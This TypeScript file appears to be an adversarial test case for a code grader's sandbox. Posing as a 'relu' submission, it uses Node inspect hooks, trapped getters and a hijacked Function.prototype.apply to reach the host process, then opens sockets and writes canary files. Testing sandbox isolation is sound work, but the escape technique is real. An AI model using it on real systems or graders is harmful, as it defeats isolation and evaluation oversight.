// 96-inspected-error [escape]
// Tries: throws out of a cleaned-up registry what asks to be inspected by Node: nodejs.util.inspect.custom, getters for stack and name
// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
let H: any = null; let proc: any = null; let st = '';
const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
const take = (x: any) => { if (H === null && foreign(x)) H = x; };
const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-96.sock'); });
  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-96', 'x')); };
const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
const bomb = () => { const e: any = { [Symbol.for('nodejs.util.inspect.custom')](...a: any[]) { for (const x of a) take(x); climb(); pwn(); return 'x'; } };
  for (const k of ['stack', 'name', 'message', 'code', 'domain', 'toString', 'constructor', 'then', 'cause']) Object.defineProperty(e, k, { get(this: any) { take(this); climb(); pwn(); return undefined; } }); return e; };
const registry = new FinalizationRegistry(() => { throw bomb(); });
for (let i = 0; i < 20000; i++) registry.register({}, i);
const waste = () => { for (let i = 0; i < 40; i++) new Array(1e5).fill(i); };
Promise.reject(bomb()); waste(); await 0;
export function relu(_x: number[]): number[] { waste(); climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
export function reluBackward(_d: number[], _x: number[]): number[] { waste(); throw new Error('H=' + (H !== null) + ' ' + st); }
